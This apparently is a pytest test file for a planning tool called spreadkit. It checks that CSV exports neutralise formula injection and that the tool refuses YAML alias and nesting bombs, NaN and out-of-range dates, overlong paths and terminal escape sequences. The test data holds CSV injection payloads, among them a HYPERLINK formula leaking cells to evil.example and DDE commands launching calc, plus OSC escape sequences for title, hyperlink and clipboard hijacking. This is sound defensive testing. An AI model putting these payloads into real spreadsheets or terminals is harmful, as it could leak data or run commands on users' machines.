"""Hostile input from shared files: formulas in exports, bombs in YAML, odd numbers and dates, long paths."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest
import yaml

from spreadkit.answers.loading import read_answers
from spreadkit.app import commands
from spreadkit.core.errors import ExitStatus, SpreadkitError
from spreadkit.core.text import printable
from spreadkit.files import yamlio
from spreadkit.files.yamlio import MAX_DEPTH
from spreadkit.framework.content import load_framework
from spreadkit.framework.model import Step
from spreadkit.framework.values import FIRST_DATE, LAST_DATE
from spreadkit.terminal import display

from .conftest import EXAMPLE_ANSWERS, Cli
from .scripted import terminal_env

# -- CSV injection ---------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _actions_file(tmp_path: Path, tasks: list[str], owner: str = "Owner") -> Path:
    rows = "".join(
        f"      - task: {json.dumps(task)}\n        owner: {json.dumps(owner)}\n" for task in tasks
    )
    path = tmp_path / "csv.answers.yml"
    path.write_text(f"answers:\n  implement:\n    actions:\n{rows}", encoding="utf-8")
    return path


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(cli: Cli, tmp_path: Path) -> None:
    path = _actions_file(tmp_path, [*FORMULAS, "Plain task", "a = b"], owner="@owner")
    result = cli("export", str(path), "--table", "actions")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    tasks = [row[0] for row in rows[1:]]
    # Text fields are stripped of outer whitespace when read, so the tab and CR ones lose them.
    assert tasks == [
        "'" + FORMULAS[0],
        "'" + FORMULAS[1],
        "'" + FORMULAS[2],
        "'" + FORMULAS[3],
        "'=1+1",
        "'=1+1",
        "Plain task",
        "a = b",
    ]
    assert {row[1] for row in rows[1:]} == {"'@owner"}
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_json_export_keeps_text_exactly(cli: Cli, tmp_path: Path) -> None:
    path = _actions_file(tmp_path, FORMULAS[:4])
    result = cli("export", str(path), "--table", "actions", "--format", "json")
    assert result.exit_code == 0, result.output
    assert [row["task"] for row in json.loads(result.stdout)] == FORMULAS[:4]


BUDGET_PACK = {
    "pack.yml": "id: budget\nversion: '1'\ntitle: Budget lines\nmode: overlay\nfiles: [budget.yml]\n",
    "budget.yml": """id: implement
questions:
  - id: budget
    label: Budget lines
    type: group
    item: line
    export: budget
    fills: timeline
    prompt: What will it cost?
    fields:
      - id: item
        label: Item
        type: text
        prompt: Item
      - id: amount
        label: Amount
        type: number
        min: -1000
        max: 1000
        prompt: Amount
      - id: people
        label: People
        type: number
        prompt: People reached
      - id: notes
        label: Notes
        type: multiline
        prompt: Notes
""",
}


def test_a_whole_number_too_large_for_any_plan_is_one_clear_error(cli: Cli, tmp_path: Path) -> None:
    """Issue 23 (12): numbers have one bounded range, checked where they come in (a 400-digit
    number was once taken, then broke sums and pictures)."""
    pack = _budget_pack(tmp_path)
    path = tmp_path / "big.answers.yml"
    huge = "9" * 400
    path.write_text(
        f"answers:\n  implement:\n    budget:\n      - {{item: x, people: {huge}}}\n",
        encoding="utf-8",
    )
    result = cli("export", str(path), "-t", "budget", "--content", str(pack))
    assert result.exit_code == 1, result.output
    (line,) = result.output.strip().splitlines()
    assert "big.answers.yml:4:" in line and "too large" in line and "1,000,000,000,000,000" in line
    assert huge not in line  # never a whole 400-digit number in a message


def _budget_pack(tmp_path: Path) -> Path:
    pack = tmp_path / "pack"
    pack.mkdir()
    for name, text in BUDGET_PACK.items():
        (pack / name).write_text(text, encoding="utf-8")
    return pack


def test_negative_numbers_stay_numbers_but_negative_looking_text_does_not(
    cli: Cli, tmp_path: Path
) -> None:
    pack = _budget_pack(tmp_path)
    path = tmp_path / "budget.answers.yml"
    path.write_text(
        "answers:\n  implement:\n    budget:\n"
        "      - {item: '-5', amount: -5, notes: \"\\t=1+1\\n\\r@A1\"}\n"
        "      - {item: Refund, amount: -2.5}\n",
        encoding="utf-8",
    )
    result = cli("export", str(path), "-t", "budget", "--content", str(pack))
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.stdout))) == [
        ["Item", "Amount", "People", "Notes", "Sources", "Assumed"],
        # a formula character after a tab or a line break is neutralised too (issue 23, item 9)
        ["'-5", "-5", "", "'\t'=1+1\n\r'@A1", "", ""],
        ["Refund", "-2.5", "", "", "", ""],
    ]


# -- YAML that would exhaust the stack ---------------------------------------------------------------


def _clean_error(result: object, *expected: str) -> str:
    """The one error line of a refused command, checked to be a clean one."""
    output = result.output  # type: ignore[attr-defined]
    assert result.exit_code == 1, output  # type: ignore[attr-defined]
    assert "unexpected problem" not in output and "Traceback" not in output
    lines = [line for line in output.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1, output
    for text in expected:
        assert text in lines[0], output
    return lines[0]


def test_an_alias_that_contains_itself_is_refused(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "alias.answers.yml"
    path.write_text("answers: &a {analyse: *a}\n", encoding="utf-8")
    assert len(path.read_bytes()) <= 26
    for command in ("validate", "render", "status"):
        _clean_error(cli(command, str(path)), f"{path}:1:", "refers to a value that contains it")


def test_an_alias_used_twice_side_by_side_is_still_fine(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "twice.answers.yml"
    path.write_text(
        "answers:\n  analyse:\n    problem: &p Too few psychologists\n  message:\n    story: *p\n",
        encoding="utf-8",
    )
    assert cli("validate", str(path)).exit_code == 0


def _deep(levels: int, style: str) -> str:
    if style == "flow":
        return "[" * levels + "]" * levels
    return (
        "\n"
        + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(levels))
        + "  " * (levels + 1)
        + "x"
    )


@pytest.mark.parametrize("style", ["flow", "block"])
def test_deep_nesting_in_an_answers_file_is_refused(cli: Cli, tmp_path: Path, style: str) -> None:
    path = tmp_path / "deep.answers.yml"
    path.write_text("answers: " + _deep(600, style) + "\n", encoding="utf-8")
    _clean_error(cli("validate", str(path)), str(path), f"nested more than {MAX_DEPTH} levels")


def test_deep_json_is_refused(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "deep.answers.json"
    path.write_text('{"answers": ' + '{"a": ' * 500 + "1" + "}" * 501, encoding="utf-8")
    _clean_error(cli("render", str(path)), f"{path}:1:", "nested more than")


def test_deep_nesting_in_a_pack_is_refused(cli: Cli, tmp_path: Path) -> None:
    pack = _budget_pack(tmp_path)
    (pack / "budget.yml").write_text("id: implement\ntips: " + _deep(700, "flow"), encoding="utf-8")
    _clean_error(cli("content", "check", str(pack)), "budget.yml:2:", "nested more than")
    (pack / "budget.yml").write_text("id: implement\nx: &a {y: [*a]}\n", encoding="utf-8")
    _clean_error(cli("steps", "--content", str(pack)), "budget.yml:2:", "contains it")


def test_a_bad_spreadkit_yml_is_a_clean_error_naming_it(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    config = tmp_path / "spreadkit.yml"
    for text in (
        "content: " + _deep(600, "flow"),
        "content: &c {x: *c}",
        "c: " + _deep(500, "block"),
    ):
        config.write_text(text + "\n", encoding="utf-8")
        line = _clean_error(cli("steps"))
        assert re.search(r"spreadkit\.yml:\d+: ", line), line
    (tmp_path / "templates").mkdir()
    config.write_text("templates: templates\n", encoding="utf-8")
    assert cli("steps").exit_code == 0  # and a good one works again


def test_the_pure_python_parser_is_guarded_too(monkeypatch: pytest.MonkeyPatch) -> None:
    from spreadkit.files import yamlparse

    monkeypatch.setattr(yamlparse, "_Loader", yaml.SafeLoader)  # as when libyaml is missing
    with pytest.raises(SpreadkitError, match="nested more than"):
        yamlio.parse_yaml("a: " + _deep(600, "flow"), "deep.yml")
    with pytest.raises(SpreadkitError, match="contains it"):
        yamlio.parse_yaml("a: &a [*a]", "alias.yml")


# -- numbers and dates -----------------------------------------------------------------------------


def _example_with(old: str, new: str, tmp_path: Path, name: str = "x.answers.yml") -> Path:
    text = EXAMPLE_ANSWERS.read_text(encoding="utf-8")
    assert old in text
    path = tmp_path / name
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


@pytest.mark.parametrize("value", [".nan", ".NaN", ".inf", "-.inf", "NaN", "Infinity", "1e999"])
def test_numbers_that_are_not_numbers_are_refused(cli: Cli, tmp_path: Path, value: str) -> None:
    path = _example_with("sites_first_year: 3", f"sites_first_year: {value}", tmp_path)
    _clean_error(cli("validate", str(path)), "answers.ready.sites_first_year:", "number")
    _clean_error(cli("render", str(path)), "answers.ready.sites_first_year:")


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity"])
def test_json_nan_and_infinity_are_refused(cli: Cli, tmp_path: Path, value: str) -> None:
    path = tmp_path / "n.answers.json"
    path.write_text('{"answers": {"ready": {"sites_first_year": ' + value + "}}}", encoding="utf-8")
    _clean_error(cli("validate", str(path)), "sites_first_year", "is not a number")


def test_nan_typed_in_set_is_refused(cli: Cli) -> None:
    result = cli("render", str(EXAMPLE_ANSWERS), "--set", "ready.sites_first_year=nan")
    _clean_error(result, "'nan' is not a number")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("due: 2027-03-31", "due: 9999-12-31"),
        ("due: 2027-03-31", "due: 0001-01-01"),
        ("due: 2027-03-31", "due: '31/12/9999'"),
        ("due: 2027-03-31", "due: 2200-01-01"),
        ("due: 2027-03-31", "due: 1899-12-31T10:00:00"),
        ("created: 2026-09-01", "created: 9999-12-31"),
    ],
)
def test_dates_outside_the_years_a_plan_covers_are_refused(
    cli: Cli, tmp_path: Path, old: str, new: str
) -> None:
    path = _example_with(old, new, tmp_path)
    line = _clean_error(cli("validate", str(path)), "is not a date a plan can use")
    assert f"from {FIRST_DATE.year} to {LAST_DATE.year}" in line
    _clean_error(cli("render", str(path)), "is not a date a plan can use")


def test_every_date_validate_accepts_renders(cli: Cli, tmp_path: Path) -> None:
    text = EXAMPLE_ANSWERS.read_text(encoding="utf-8")
    dates = sorted(set(re.findall(r"\b20\d\d-\d\d-\d\d\b", text)))
    # In order (so a date range's end stays after its start), spread over the extreme years.
    extremes = [FIRST_DATE, LAST_DATE - dt.timedelta(days=40), LAST_DATE]
    for index, old in enumerate(dates):
        text = text.replace(old, extremes[index * len(extremes) // len(dates)].isoformat())
    path = tmp_path / "edges.answers.yml"
    path.write_text(text, encoding="utf-8")
    assert cli("validate", str(path)).exit_code == 0
    for plan_format in ("md", "html", "term"):
        result = cli("render", str(path), "--format", plan_format)
        assert result.exit_code == 0, result.output
    assert "31 December 2199" in cli("render", str(path)).stdout


# -- paths ----------------------------------------------------------------------------------------

LONG = "a" * 5000


@pytest.mark.parametrize(
    "args",
    [
        ["render", str(EXAMPLE_ANSWERS), "--output", LONG],
        ["render", str(EXAMPLE_ANSWERS), "--out-dir", LONG],
        ["plan", "--no-input", "--answers", LONG],
        ["plan", "--no-input", "--answers", str(EXAMPLE_ANSWERS), "--output", LONG],
        ["new", LONG],
        ["steps", "--content", LONG],
        ["render", str(EXAMPLE_ANSWERS), "--template", LONG],
    ],
)
def test_a_5000_character_path_is_a_clean_error(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    line = _clean_error(cli(*args), "is too long", "use a shorter")
    assert len(line) < 200  # the path is shortened, not printed 5,000 characters long


@pytest.mark.parametrize("command", ["validate", "render", "status"])
def test_a_5000_character_answers_path_is_a_clean_error(cli: Cli, command: str) -> None:
    _clean_error(cli(command, LONG), "too long")


# -- escape sequences in the terminal ----------------------------------------------------------------

OSC = "\x1b]0;pwned\x07"
RED = "\x1b[31m"


def _escaping_answers(tmp_path: Path) -> Path:
    data = yaml.safe_load(EXAMPLE_ANSWERS.read_text(encoding="utf-8"))
    data["plan"]["title"] = OSC + RED + data["plan"]["title"]
    action = data["answers"]["implement"]["actions"][0]
    action["task"] = RED + OSC + action["task"]
    path = tmp_path / "esc.answers.yml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    assert "\x1b" not in path.read_text(encoding="utf-8")  # written as the escapes \e and \a
    return path


def _yaml_escaped(text: str) -> str:
    return text.replace("\x1b", "\\e").replace("\x07", "\\a")


def test_status_shows_no_escape_sequences_from_the_answers(cli: Cli, tmp_path: Path) -> None:
    path = _escaping_answers(tmp_path)
    answers = read_answers(path, load_framework())
    assert answers.get("implement", "actions")[0]["task"].startswith(RED + OSC)
    assert str(answers.details["title"]).startswith(OSC + RED)
    piped = cli("status", str(path))
    assert piped.exit_code == 0, piped.output
    assert "\x1b" not in piped.output and "\x07" not in piped.output
    assert piped.stdout.startswith("Spreading the Assistant") and "pwned" not in piped.stdout
    env = terminal_env()
    assert commands.status(env, str(path)) == ExitStatus.OK
    shown = env.stdout.getvalue()  # type: ignore[attr-defined]
    assert "Spreading the Assistant" in shown and "\x1b" not in shown and "\x07" not in shown


def test_other_terminal_output_shows_no_escape_sequences(cli: Cli, tmp_path: Path) -> None:
    path = _escaping_answers(tmp_path)
    preview = cli("render", str(path), "--format", "term", "-d", "workbook")
    assert preview.exit_code == 0 and "Raise awareness of the role" in preview.stdout
    assert "\x1b" not in preview.stdout
    board = cli("render", str(path), "--format", "term")
    assert board.exit_code == 0 and "Spreading the Assistant" in board.stdout
    assert "\x1b" not in board.stdout
    bad = tmp_path / "bad.answers.yml"
    bad.write_text(
        f'answers:\n  ready:\n    approach: "{_yaml_escaped(OSC + RED)}loose"\n', encoding="utf-8"
    )
    for command in ("validate", "render"):
        result = cli(command, str(bad))
        assert result.exit_code == 1 and "is not one of the choices" in result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
    framework = load_framework()
    env = terminal_env()
    implement = framework.section("implement")
    assert implement is not None and isinstance(implement, Step)
    actions = implement.question("actions")
    assert actions is not None
    answers = read_answers(path, framework)
    display.records(env, actions, answers.get("implement", "actions"))
    display.section_summary(env, implement, answers)
    shown = env.stdout.getvalue()  # type: ignore[attr-defined]
    assert "Raise" in shown and "\x1b" not in shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (OSC + RED + "title" + "\x1b[0m", "title"),
        ("a\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),
        ("copy\x1b]52;c;ZXZpbA==\x07", "copy"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("over\rwrite\x08\x7f", "overwrite"),
        ("\x9b2Jcleared", "cleared"),
        ("unfinished \x1b]0;title", "unfinished "),
        ("é, 漢字 and 🙂", "é, 漢字 and 🙂"),
    ],
)
def test_printable_keeps_the_words_and_drops_the_controls(text: str, shown: str) -> None:
    assert printable(text) == shown
